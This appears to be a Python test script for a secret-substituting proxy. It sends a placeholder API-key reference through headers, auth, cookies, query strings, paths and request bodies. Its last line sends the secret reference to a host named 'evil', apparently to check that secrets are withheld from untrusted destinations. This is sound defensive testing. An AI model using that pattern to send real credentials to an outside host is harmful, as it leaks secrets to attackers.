# Python's requests.
import sys

import requests

base, evil, address = sys.argv[1:4]
ref = "{secrets.crm.apiKey}"
client = requests.Session()


def ok(answer):
    assert answer.status_code == 200, answer.text


ok(client.get(base + "/header", headers={"X-Api-Key": ref}))
ok(client.get(base + "/bearer", headers={"Authorization": "Bearer " + ref}))
ok(client.get(base + "/query", params={"k": ref}))
ok(client.get(base + "/path/" + ref + "/x"))
ok(client.get(base + "/basic", auth=("me", ref)))
ok(client.get(base + "/cookie", cookies={"s": ref}))
ok(client.post(base + "/json", json={"k": ref}))
ok(client.post(base + "/form", data={"k": ref}))
ok(client.post(base + "/multipart", files={"k": (None, ref)}))
ok(client.get(address + "/address", headers={"X-Api-Key": "{secrets.open}"}))
print(client.get(evil + "/", headers={"X": ref}).text)
